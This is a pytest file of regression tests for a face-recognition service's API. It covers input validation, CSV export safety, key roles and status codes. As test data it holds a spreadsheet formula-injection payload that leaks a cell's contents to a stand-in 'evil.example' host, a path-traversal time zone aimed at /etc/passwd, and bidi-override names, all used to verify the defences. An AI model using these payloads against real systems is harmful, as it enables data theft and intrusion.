"""Regression tests for what an adversarial review of the service found (issue 16): every
rejected write leaves the gallery listable, numbers and dates out of range are 422, exports
cannot carry formulas, a recognise key learns no names, the last admin key survives races,
uploads never touch the disk, and user errors get 4xx codes that the OpenAPI documents."""

from __future__ import annotations

import csv
import http.client
import io
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from marginface.serve import ServeSettings, create_app
from tests.serve.fuzz_helpers import nested
from tests.serve.serve_fakes import (
    FakePipeline,
    Harness,
    free_port,
    make_photo,
    running_server,
)


def _files(*photos: bytes, names: tuple[str, ...] = ()) -> list:
    names = names or tuple(f"p{i}.png" for i in range(len(photos)))
    return [("photos", (n, p, "image/png")) for n, p in zip(names, photos, strict=True)]


def _counts(h: Harness) -> tuple[int, int]:
    g = h.client.app.state.service.gallery
    return g.subjects.count(), g.subjects.count_faces()


def _error(r: Any) -> dict:
    return r.json()["error"]


# -- 1. writes that are refused leave nothing, and listing keeps working --------------------------
REJECTED_WRITES = {
    "deep metadata (JSON)": ("json", {"name": "deep", "metadata": nested(500)}),
    "NaN metadata": ("raw", b'{"name": "nan", "metadata": {"x": NaN}}'),
    "infinite metadata": ("raw", b'{"name": "inf", "metadata": {"x": 1e999}}'),
    "huge metadata": ("json", {"name": "big", "metadata": {"t": "x" * 20000}}),
    "NUL in name": ("json", {"name": "a\u0000b"}),
    "invisible name": ("json", {"name": "\u200b\u200b"}),
    "bidi override name": ("json", {"name": "\u202eevil"}),
    "no-break-space name": ("json", {"name": "\u00a0"}),
    "lone surrogate name": ("raw", b'{"name": "a\\ud800"}'),
    "deep metadata (enrol form)": ("enrol", {"name": "deep", "metadata": nested(500)}),
    "NaN metadata (enrol form)": ("enrol-raw", {"name": "nan", "metadata": '{"x": NaN}'}),
    "empty name (enrol form)": ("enrol", {"name": "\u00a0 "}),
    "control name (enrol form)": ("enrol", {"name": "a\nb"}),
}


@pytest.mark.parametrize("kind", sorted(REJECTED_WRITES))
def test_rejected_writes_store_nothing_and_listing_still_works(harness: Harness, kind: str) -> None:
    import json

    c, enrol = harness.client, harness.headers("enrol")
    harness.enrol("Kept", make_photo((1, 60)))
    before = _counts(harness)
    how, body = REJECTED_WRITES[kind]
    if how == "json":
        r = c.post("/v1/subjects", json=body, headers=enrol)
    elif how == "raw":
        r = c.post(
            "/v1/subjects",
            content=body,
            headers={**enrol, "Content-Type": "application/json"},
        )
    else:
        data = dict(body)
        if how == "enrol" and "metadata" in data:
            data["metadata"] = json.dumps(data["metadata"])
        r = c.post("/v1/enroll", data=data, files=_files(make_photo((3, 60))), headers=enrol)
    assert r.status_code == 422, r.text
    assert _error(r)["code"] == "invalid_request"
    assert _counts(harness) == before
    assert harness.pipeline.calls == 1  # the refused enrolment processed no photo
    listing = c.get("/v1/subjects", headers=enrol)
    assert listing.status_code == 200 and [s["name"] for s in listing.json()["subjects"]] == [
        "Kept"
    ]


def test_rejected_updates_keep_the_subject(harness: Harness) -> None:
    c, enrol = harness.client, harness.headers("enrol")
    sid = harness.enrol("Kept", make_photo((1, 60)))["subject"]["id"]
    for body in ({"metadata": nested(50)}, {"name": "\x00"}, {"name": "\u2066x\u2069"}):
        r = c.patch(f"/v1/subjects/{sid}", json=body, headers=enrol)
        assert r.status_code == 422, r.text
    subject = c.get(f"/v1/subjects/{sid}", headers=enrol).json()
    assert subject["name"] == "Kept" and subject["metadata"] == {}
    assert c.get("/v1/subjects", headers=enrol).status_code == 200


def test_names_are_stored_normalised(harness: Harness) -> None:
    r = harness.client.post(
        "/v1/subjects", json={"name": "  Zoe\u0301 "}, headers=harness.headers("enrol")
    )
    assert r.status_code == 201 and r.json()["name"] == "Zoé"


def test_name_filter_is_literal(harness: Harness) -> None:
    c, enrol = harness.client, harness.headers("enrol")
    for name in ("Ann", "Bob", "100% sure"):
        assert c.post("/v1/subjects", json={"name": name}, headers=enrol).status_code == 201
    body = c.get("/v1/subjects", params={"name": "%"}, headers=enrol).json()
    assert [s["name"] for s in body["subjects"]] == ["100% sure"] and body["total"] == 1
    assert c.get("/v1/subjects", params={"name": "_"}, headers=enrol).json()["total"] == 0


# -- 2. CSV exports hold no formulas ---------------------------------------------------------------
def test_csv_exports_neutralise_formulas(harness: Harness) -> None:
    c, admin = harness.client, harness.headers("admin")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    harness.enrol(evil, make_photo((4, 60)))
    r = c.post(
        "/v1/identify",
        files={"photo": ("q.png", make_photo((4, 70)), "image/png")},
        data={"source": "@SUM(1+1)*cmd"},
        headers=harness.headers("recognise"),
    )
    assert r.status_code == 200 and r.json()["faces"][0]["match"]["name"] == evil
    events = list(csv.DictReader(io.StringIO(c.get("/v1/events?format=csv", headers=admin).text)))
    assert events[0]["source"] == "'@SUM(1+1)*cmd" and events[0]["subject_name"] == "'" + evil
    day = c.get("/v1/attendance", headers=admin).json()["date"]
    rows = list(
        csv.DictReader(
            io.StringIO(c.get(f"/v1/attendance?format=csv&date={day}", headers=admin).text)
        )
    )
    assert rows[0]["name"] == "'" + evil and rows[0]["sources"] == "'@SUM(1+1)*cmd"
    # JSON keeps the text as it was given
    assert c.get("/v1/events", headers=admin).json()["events"][0]["source"] == "@SUM(1+1)*cmd"


# -- 3. numbers and dates out of range -------------------------------------------------------------
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/v1/subjects?offset=9223372036854775808"),
        ("GET", "/v1/subjects?offset=-1"),
        ("GET", "/v1/events?offset=9223372036854775808"),
        ("GET", "/v1/subjects/abc/faces/9223372036854775808/crop"),
        ("GET", "/v1/subjects/abc/faces/-9223372036854775809/crop"),
        ("DELETE", "/v1/subjects/abc/faces/9223372036854775808"),
        ("DELETE", "/v1/subjects/abc/faces/0"),
        ("GET", "/v1/subjects/" + "x" * 65),
        # a time zone is a name of the schema's list, never a file name (256 characters
        # were a 500: "File name too long")
        ("GET", "/v1/events?tz=" + "A" * 256),
        ("GET", "/v1/attendance?tz=" + "A" * 256),
        ("GET", "/v1/attendance?tz=../../../etc/passwd"),
        ("GET", "/v1/events?tz=Mars/Olympus_Mons"),
    ],
)
def test_out_of_range_parameters_are_422(harness: Harness, method: str, path: str) -> None:
    r = harness.client.request(method, path, headers=harness.headers("admin"))
    assert r.status_code == 422, r.text
    assert _error(r)["code"] == "invalid_request"


@pytest.mark.parametrize(
    "path",
    [
        "/v1/attendance?date=9999-12-31&tz=Pacific/Kiritimati",
        "/v1/attendance?date=0001-01-01&tz=Etc/GMT%2B12",
        "/v1/attendance?date=9998-12-31&tz=Pacific/Kiritimati",
        "/v1/events?date=9999-12-31&tz=Pacific/Kiritimati",
        "/v1/events?date=0001-01-01&tz=Pacific/Kiritimati",
        "/v1/events?since=9999-12-31T23:59:59&tz=Pacific/Kiritimati",
        "/v1/events?until=0001-01-01T00:00:00",
        "/v1/events?since=0001-01-01T00:00:00%2B14:00&until=9999-12-31T23:59:59-12:00",
        "/v1/events?date=9999-12-31&format=csv",
    ],
)
def test_every_date_of_the_schema_is_answered(harness: Harness, path: str) -> None:
    """The schema says ``format: date`` / ``date-time``: every such value is answered (before,
    the first and last days were 422 for a limit the schema did not state)."""
    r = harness.client.get(path, headers=harness.headers("admin"))
    assert r.status_code == 200, r.text


def test_time_zones_are_listed_in_the_schema(harness: Harness) -> None:
    schema = harness.client.get("/openapi.json").json()
    for path in ("/v1/events", "/v1/attendance"):
        (tz,) = [p for p in schema["paths"][path]["get"]["parameters"] if p["name"] == "tz"]
        names = tz["schema"]["anyOf"][0]["enum"]
        assert "Europe/Paris" in names and "UTC" in names and len(names) > 300
    r = harness.client.get("/v1/attendance?tz=Europe/Paris", headers=harness.headers("admin"))
    assert r.status_code == 200 and r.json()["timezone"] == "Europe/Paris"


@pytest.fixture
def failing_server(tmp_path: Path) -> Iterator[tuple[int, str]]:
    """A real uvicorn server whose /v1/subjects listing fails unexpectedly."""
    settings = ServeSettings(db=str(tmp_path / "gallery.db"), port=free_port(), workers=1)
    app = create_app(settings, pipeline=FakePipeline())

    from marginface.serve.deps import get_gallery

    class BrokenSubjects:
        def list(self, **kwargs: Any) -> Any:
            raise RuntimeError("disk on fire")

    class Broken:
        subjects = BrokenSubjects()

    async def broken() -> Any:
        return Broken()

    app.dependency_overrides[get_gallery] = broken
    with running_server(app, settings.port, log_level="critical"):
        yield settings.port, settings.key_file.read_text().strip()


def test_an_unexpected_error_is_a_json_500_that_keeps_the_connection(
    failing_server: tuple[int, str],
) -> None:
    port, admin = failing_server
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.request("GET", "/v1/subjects", headers={"X-API-Key": admin})
    r = conn.getresponse()
    body = r.read()
    assert r.status == 500 and b"internal_error" in body and b"fire" not in body
    assert (r.getheader("connection") or "").lower() != "close"
    conn.request("GET", "/healthz")  # the same connection still works
    r2 = conn.getresponse()
    assert r2.status == 200 and r2.read()
    conn.close()


# -- 4. a recognise key learns the decision only ---------------------------------------------------
def _identify(h: Harness, role: str) -> dict:
    r = h.client.post(
        "/v1/identify",
        files={"photo": ("q.png", make_photo((5, 60), (6, 60), (12, 60)), "image/png")},
        headers=h.headers(role),
    )
    assert r.status_code == 200, r.text
    return r.json()


def test_recognise_keys_get_no_candidates(harness: Harness) -> None:
    harness.enrol("Five", make_photo((5, 60)))
    harness.enrol("Six", make_photo((6, 60)))
    faces = _identify(harness, "recognise")["faces"]
    assert [f["match"]["name"] if f["match"] else None for f in faces] == ["Five", "Six", None]
    assert all(f["candidates"] is None for f in faces)
    assert "Five" not in str(faces[2]) and "Six" not in str(faces[2])
    for role in ("enrol", "admin"):
        faces = _identify(harness, role)["faces"]
        assert faces[2]["candidates"] and {c["name"] for c in faces[2]["candidates"]} <= {
            "Five",
            "Six",
        }


def test_candidates_for_recognise_keys_can_be_turned_on(tmp_path: Path) -> None:
    settings = ServeSettings(db=str(tmp_path / "g.db"), recognise_candidates=True, max_matches=1)
    with TestClient(create_app(settings, pipeline=FakePipeline())) as client:
        admin = {"X-API-Key": settings.key_file.read_text().strip()}
        key = client.post("/v1/keys", json={"name": "door", "role": "recognise"}, headers=admin)
        client.post(
            "/v1/enroll",
            data={"name": "Five"},
            files=_files(make_photo((5, 60))),
            headers=admin,
        )
        r = client.post(
            "/v1/identify",
            files={"photo": ("q.png", make_photo((5, 60)), "image/png")},
            headers={"X-API-Key": key.json()["secret"]},
        )
        assert [c["name"] for c in r.json()["faces"][0]["candidates"]] == ["Five"]


# -- 5. the last admin key ------------------------------------------------------------------------
def test_concurrent_revocations_leave_an_admin_key(harness: Harness) -> None:
    c, admin = harness.client, harness.headers("admin")
    own = c.get("/v1/me", headers=admin).json()["id"]
    other = c.post("/v1/keys", json={"name": "second", "role": "admin"}, headers=admin).json()
    other_headers = {"X-API-Key": other["secret"]}
    barrier = threading.Barrier(2)
    statuses: list[int] = []

    def revoke(key_id: str, headers: dict[str, str]) -> None:
        barrier.wait()
        statuses.append(c.delete(f"/v1/keys/{key_id}", headers=headers).status_code)

    threads = [
        threading.Thread(target=revoke, args=(other["key"]["id"], admin)),
        threading.Thread(target=revoke, args=(own, other_headers)),
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    assert sorted(statuses) in ([204, 409], [204, 401])  # refused, or the caller was revoked
    gallery = c.app.state.service.gallery
    assert gallery.keys.count("admin") == 1


# -- 6. uploads stay in memory ---------------------------------------------------------------------
def test_large_uploads_are_never_spooled_to_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rolled: list[str] = []
    real = tempfile.TemporaryFile

    def recording(*args: Any, **kwargs: Any) -> Any:
        rolled.append("rolled over to disk")
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "TemporaryFile", recording)
    photo = make_photo((7, 120), size=(1100, 900), fmt="BMP")
    assert len(photo) > 2 * 1024 * 1024  # above Starlette's 1 MB spool
    settings = ServeSettings(db=str(tmp_path / "g.db"), max_upload_mb=8)
    with TestClient(create_app(settings, pipeline=FakePipeline())) as client:
        admin = {"X-API-Key": settings.key_file.read_text().strip()}
        r = client.post(
            "/v1/enroll",
            data={"name": "Big"},
            files=[("photos", ("big.bmp", photo, "image/bmp"))],
            headers=admin,
        )
        assert r.status_code == 201, r.text
        r = client.post(
            "/v1/identify", files={"photo": ("q.bmp", photo, "image/bmp")}, headers=admin
        )
        assert r.json()["faces"][0]["match"]["name"] == "Big"
    assert rolled == []


# -- 8. status codes: 422 for input, 400 for unreadable images, 409 for conflicts only ------------
def test_verify_against_a_subject_without_faces_is_422(harness: Harness) -> None:
    c, enrol = harness.client, harness.headers("enrol")
    sid = c.post("/v1/subjects", json={"name": "Empty"}, headers=enrol).json()["id"]
    r = c.post(
        "/v1/verify",
        files={"photo": ("q.png", make_photo((1, 60)), "image/png")},
        data={"subject_id": sid},
        headers=enrol,
    )
    assert r.status_code == 422 and "no enrolled faces" in _error(r)["message"]


def test_unreadable_enrolment_photos_are_400_and_named(harness: Harness) -> None:
    c, enrol = harness.client, harness.headers("enrol")
    r = c.post(
        "/v1/enroll",
        data={"name": "X"},
        files=_files(b"not an image", b"", names=("holiday.jpg", "empty.png")),
        headers=enrol,
    )
    assert r.status_code == 400, r.text
    error = _error(r)
    assert error["code"] == "invalid_image"
    assert "holiday.jpg" in error["message"] and "empty.png" in error["message"]
    assert "bytes>" not in error["message"]
    assert [d["status"] for d in error["details"]] == ["unreadable", "unreadable"]
    # a mix of unreadable and faceless photos is still "no face enrolled"
    blank = make_photo()
    r = c.post(
        "/v1/enroll",
        data={"name": "X"},
        files=_files(b"junk", blank, names=("junk.jpg", "blank.png")),
        headers=enrol,
    )
    assert r.status_code == 422 and _error(r)["code"] == "no_face_enrolled"
    assert _counts(harness) == (0, 0)
    r = c.post("/v1/identify", files={"photo": ("door.jpg", b"junk", "image/jpeg")}, headers=enrol)
    assert r.status_code == 400 and _error(r)["message"].startswith("door.jpg:")


def test_every_status_code_is_documented(harness: Harness) -> None:
    """The codes these routes now answer with appear in the OpenAPI document."""
    spec = harness.client.get("/openapi.json").json()["paths"]
    assert "400" in spec["/v1/enroll"]["post"]["responses"]
    assert "409" in spec["/v1/keys/{key_id}"]["delete"]["responses"]
    assert "409" not in spec["/v1/subjects"]["post"]["responses"]
    face = spec["/v1/subjects/{subject_id}/faces/{face_id}"]["delete"]["parameters"]
    face_id = next(p for p in face if p["name"] == "face_id")["schema"]
    assert face_id["minimum"] == 1 and face_id["maximum"] == 2**63 - 1


# -- found by the fuzzing suite --------------------------------------------------------------------
def test_a_405_names_every_method_of_the_path(harness: Harness) -> None:
    c, admin = harness.client, harness.headers("admin")
    r = c.request("PUT", "/v1/subjects", headers=admin)
    assert r.status_code == 405 and r.headers["allow"] == "GET, POST"
    r = c.request("PUT", "/v1/subjects/abc", headers=admin)
    assert r.headers["allow"] == "DELETE, GET, PATCH"
    assert c.request("PUT", "/v1/keys", headers=admin).headers["allow"] == "GET, POST"


@pytest.mark.parametrize("day", ["0", "86400", "2020-1-1", "20200101"])
def test_days_must_be_written_as_dates(harness: Harness, day: str) -> None:
    for path in ("/v1/events", "/v1/attendance"):
        r = harness.client.get(path, params={"date": day}, headers=harness.headers("admin"))
        assert r.status_code == 422, (path, day, r.text)


def test_a_day_with_times_without_offset(harness: Harness) -> None:
    r = harness.client.get(
        "/v1/events",
        params={"date": "2000-01-01", "since": "2000-01-01T06:00:00", "until": "2000-01-01T07:00"},
        headers=harness.headers("admin"),
    )
    assert r.status_code == 200 and r.json()["events"] == []


def test_undecodable_json_and_keyless_metrics_are_documented(harness: Harness) -> None:
    c, admin = harness.client, harness.headers("admin")
    r = c.post("/v1/keys", content=b"\xfa", headers={**admin, "Content-Type": "application/json"})
    assert r.status_code == 400 and _error(r)["code"] == "bad_request"
    assert c.get("/metrics").status_code == 401
    spec = c.get("/openapi.json").json()["paths"]
    assert "401" in spec["/metrics"]["get"]["responses"]
    for path, method in (
        ("/v1/keys", "post"),
        ("/v1/subjects", "post"),
        ("/v1/subjects/{subject_id}", "patch"),
    ):
        assert "400" in spec[path][method]["responses"], (path, method)


def test_an_unwritable_key_file_leaves_no_admin_key(tmp_path: Path) -> None:
    """The first admin key exists only if its file could be written: nobody else holds it."""
    from marginface.errors import ConfigError
    from marginface.gallery import Gallery
    from marginface.serve.auth import bootstrap_admin_key

    (tmp_path / "not-a-folder").write_text("")
    with Gallery.open(tmp_path / "g.db") as gallery:
        with pytest.raises(ConfigError, match="cannot write the admin key file"):
            bootstrap_admin_key(gallery, tmp_path / "not-a-folder" / "admin-key")
        assert gallery.keys.count("admin") == 0
        assert bootstrap_admin_key(gallery, tmp_path / "admin-key") is not None
        assert bootstrap_admin_key(gallery, tmp_path / "admin-key") is None
        assert gallery.keys.count("admin") == 1


def test_a_blank_source_is_the_default_one(harness: Harness) -> None:
    harness.enrol("Kept", make_photo((1, 60)))
    r = harness.client.post(
        "/v1/identify",
        files={"photo": ("q.png", make_photo((1, 60)), "image/png")},
        data={"source": "   "},
        headers=harness.headers("recognise"),
    )
    assert r.status_code == 200, r.text
    assert r.json()["source"] == "api"


# -- 6. the OpenAPI document states the limits the service enforces (issue #25) -----------------
def test_json_bodies_are_strict_about_types(camera_harness: Harness) -> None:
    """``PATCH /v1/cameras/{id}`` took ``{"enabled": 0}`` (and ``"5"`` as a number)."""
    h = camera_harness
    admin = h.headers("admin")
    cam = h.client.post("/v1/cameras", json={"name": "door", "url": "push:"}, headers=admin)
    cid = cam.json()["id"]
    for body in (
        {"enabled": 0},
        {"enabled": "true"},
        {"settings": {"fps": "5"}},
        {"settings": {"visits": {"min_faces": "3"}}},
        {"settings": {"store_crops": 1}},
    ):
        r = h.client.patch(f"/v1/cameras/{cid}", json=body, headers=admin)
        assert r.status_code == 422, (body, r.text)
    r = h.client.post("/v1/keys", json={"name": "k", "role": "enrol", "x": 1}, headers=admin)
    assert r.status_code == 422
    for body in ({"name": 5}, {"name": "Ada", "metadata": []}):
        assert h.client.post("/v1/subjects", json=body, headers=admin).status_code == 422
    r = h.client.patch(f"/v1/cameras/{cid}", json={"settings": {"fps": 2}}, headers=admin)
    assert r.status_code == 200 and r.json()["settings"] == {"fps": 2}


def test_the_schema_states_names_and_camera_settings(harness: Harness) -> None:
    import re

    schema = harness.client.get("/openapi.json").json()
    components = schema["components"]["schemas"]
    pattern = re.compile(components["SubjectCreate"]["properties"]["name"]["pattern"])
    for name, ok in (("Ada", True), (" Ada ", True), ("a\x00b", False), ("\u202eAda", False)):
        assert bool(pattern.fullmatch(name)) is ok, name
    assert components["CameraCreate"]["properties"]["name"]["pattern"] == pattern.pattern
    settings = components["CameraSettingsBody"]
    assert settings["additionalProperties"] is False and "fps" in settings["properties"]
    assert components["VisitSettingsBody"]["additionalProperties"] is False
    # POST /v1/keys: the name is optional, as for `marginface keys create`
    assert "name" not in components["KeyCreate"].get("required", [])
    r = harness.client.post(
        "/v1/keys", json={"role": "recognise"}, headers=harness.headers("admin")
    )
    assert r.status_code == 201 and r.json()["key"]["name"] == "recognise key (API)"
